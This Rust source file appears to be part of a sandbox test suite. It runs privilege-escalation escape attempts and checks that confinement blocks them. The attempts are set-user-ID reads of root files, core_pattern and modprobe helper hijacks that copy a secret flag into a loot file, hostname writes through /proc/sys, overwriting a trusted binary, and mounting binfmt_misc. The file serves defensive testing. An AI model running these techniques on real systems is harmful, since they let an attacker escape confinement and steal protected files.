// SPDX-License-Identifier: GPL-2.0
//! What runs with more rights on the attacker's behalf: set-user-ID programs, and programs that the kernel starts by itself.

use libc::{O_RDONLY, O_WRONLY};

use super::case::{Case, Deed, Loot, Proof, Stop, cannot, said};
use super::deeds::{done, exec, open, output_of, read_name};
use super::programs::in_usr;
use super::stage::Stage;
use crate::sys::child::{End, fork, nap, wait};
use crate::sys::{become_user, sys};

const CLASS: &str = "privilege";

/// All of the class.
pub(super) fn cases() -> Vec<Case> {
    let case = |name, reference, tries, proof, run: fn(&Stage) -> Deed| {
        Case::new(CLASS, name, reference, tries, proof, run)
    };
    vec![
        case(
            "set_user_id",
            "execve(2): set-user-ID; no_new_privs is not set here",
            "as an ordinary user, has a set-user-ID program read a file of root's",
            Proof::Content,
            |stage| {
                in_usr(|| set_user_id("/usr/share/evfilter/cat"));
                std::fs::set_permissions(
                    "/home/secret/flag",
                    std::os::unix::fs::PermissionsExt::from_mode(0o600),
                )
                .expect("chmod");
                stage
                    .attacker(|| {
                        stage.confine();
                        become_user(1000);
                        output_of(|| {
                            exec(c"/usr/share/evfilter/cat", &[c"cat", c"/home/secret/flag"])
                        })
                    })
                    .finish()
            },
        ),
        case(
            "core_pattern",
            "core(5): piping core dumps to a program; CVE-2022-0492's kin",
            "names a program of its own as the one that takes core dumps, and dumps core",
            Proof::Content,
            core_pattern,
        )
        .past_names(),
        case(
            "core_file_elsewhere",
            "core(5)",
            "dumps core where the machine's core files go, which is outside",
            Proof::Changed,
            |stage| {
                let pattern = "/proc/sys/kernel/core_pattern";
                std::fs::write(pattern, "/home/secret/core").expect("core_pattern");
                stage.confined(|| {
                    let limit = [libc::RLIM_INFINITY; 2];
                    let none = 0;
                    sys!(
                        libc::SYS_prlimit64,
                        0,
                        libc::RLIMIT_CORE,
                        limit.as_ptr(),
                        none
                    )?;
                    let pid = fork()?;
                    if pid == 0 {
                        crate::sys::signal::illegal();
                    }
                    match wait(pid) {
                        End::Signal(_, true) => Ok(Loot::Done),
                        end => said(format!("no core: {end:?}")),
                    }
                })
            },
        ),
        case(
            "modprobe",
            "proc_sys_kernel(5): modprobe; CVE exploits since 2011",
            "names a program of its own as the one that loads modules, and asks for a module",
            Proof::Content,
            modprobe,
        )
        .past_names(),
        case(
            "host_name_by_sysctl",
            "proc_sys_kernel(5)",
            "sets the host name through /proc/sys",
            Proof::Told,
            |stage| {
                let deed = stage.confined(|| {
                    let file = open(c"/proc/sys/kernel/hostname", O_WRONLY)?;
                    done(sys!(libc::SYS_write, &file, c"owned".as_ptr(), 5))
                });
                match std::fs::read_to_string("/proc/sys/kernel/hostname") {
                    Ok(name) if name.trim() == "owned" => Ok(Loot::Done),
                    _ => Err(deed
                        .err()
                        .unwrap_or(Stop::Said("the name is as it was".into()))),
                }
            },
        )
        .past_names(),
        case(
            "trusted_binary_replaced",
            "execve(2)",
            "replaces a program that others run",
            Proof::Told,
            |stage| {
                in_usr(|| set_user_id("/usr/share/evfilter/cat"));
                let before = std::fs::metadata("/usr/share/evfilter/cat")
                    .expect("stat")
                    .len();
                let deed = stage.confined(|| {
                    let file = open(c"/usr/share/evfilter/cat", O_WRONLY | libc::O_TRUNC)?;
                    done(sys!(libc::SYS_write, &file, c"#!/bin/sh\n".as_ptr(), 10))
                });
                match std::fs::metadata("/usr/share/evfilter/cat")
                    .expect("stat")
                    .len()
                    == before
                {
                    true => Err(deed.err().unwrap_or(Stop::Said("it is as it was".into()))),
                    false => Ok(Loot::Done),
                }
            },
        )
        .past_names(),
        case(
            "binfmt_misc",
            "binfmt_misc (Documentation/admin-guide/binfmt-misc.rst), in user namespaces since 6.7",
            "mounts binfmt_misc in a user namespace of its own and registers an interpreter",
            Proof::Told,
            |stage| {
                let known = std::fs::read_to_string("/proc/filesystems")
                    .is_ok_and(|text| text.contains("binfmt_misc"));
                if !known {
                    return cannot("this kernel has binfmt_misc as a module only");
                }
                stage
                    .attacker(|| {
                        become_user(1000);
                        stage.confine();
                        sys!(libc::SYS_unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNS)?;
                        done(sys!(
                            libc::SYS_mount,
                            c"none",
                            c"/home/escape/dir",
                            c"binfmt_misc",
                            0,
                            0
                        ))
                    })
                    .finish()
            },
        )
        .past_names(),
    ]
}

/// A copy of cat that runs as root whoever starts it.
fn set_user_id(path: &str) {
    std::fs::copy("/usr/bin/cat", path).expect("copy");
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o4755);
    std::fs::set_permissions(path, mode).expect("chmod");
}

/// What the kernel is to run: it lies in the mounts of the process `$1`, where the kernel's own helpers do not live.
fn script() {
    let text = "#!/usr/bin/busybox sh\nP=/proc/$1/root/home\n[ -e $P/secret/flag ] || P=${0%/escape/*}\n/usr/bin/busybox cat $P/secret/flag > $P/escape/loot\n";
    std::fs::write("/home/escape/helper", text).expect("write");
    super::programs::executable("/home/escape/helper");
}

/// Waits for what the helper brings.
fn loot() -> Deed {
    for _ in 0..2000 {
        match read_name(c"/home/escape/loot") {
            Ok(Loot::Bytes(bytes)) if bytes.len() > 30 => return Ok(Loot::Bytes(bytes)),
            _ => nap(2),
        }
    }
    said("the kernel ran no helper")
}

fn set(name: &std::ffi::CStr, value: &str) -> Result<(), i32> {
    let file = open(name, O_WRONLY)?;
    sys!(libc::SYS_write, &file, value.as_ptr(), value.len()).map(|_| ())
}

fn core_pattern(stage: &Stage) -> Deed {
    script();
    stage.confined(|| {
        // The helper starts in the first mount namespace, where its file is found through the process that dumps.
        set(
            c"/proc/sys/kernel/core_pattern",
            "|/proc/%P/root/home/escape/helper %P",
        )?;
        let limit = [libc::RLIM_INFINITY; 2];
        sys!(libc::SYS_prlimit64, 0, libc::RLIMIT_CORE, limit.as_ptr(), 0)?;
        let pid = fork()?;
        if pid == 0 {
            crate::sys::signal::illegal();
        }
        match wait(pid) {
            End::Signal(..) => loot(),
            end => said(format!("the child ended with {end:?}")),
        }
    })
}

fn modprobe(stage: &Stage) -> Deed {
    script();
    stage.confined(|| {
        let pid = crate::sys::getpid();
        set(
            c"/proc/sys/kernel/modprobe",
            &format!("/proc/{pid}/root/home/escape/helper"),
        )?;
        // A protocol family that is in no kernel: the kernel asks for net-pf-N.
        for family in [4, 5, 6, 9, 12, 19, 20, 21] {
            let _ = sys!(libc::SYS_socket, family, libc::SOCK_DGRAM, 0);
        }
        let _ = open(c"/home/escape/flag", O_RDONLY)?;
        loot()
    })
}
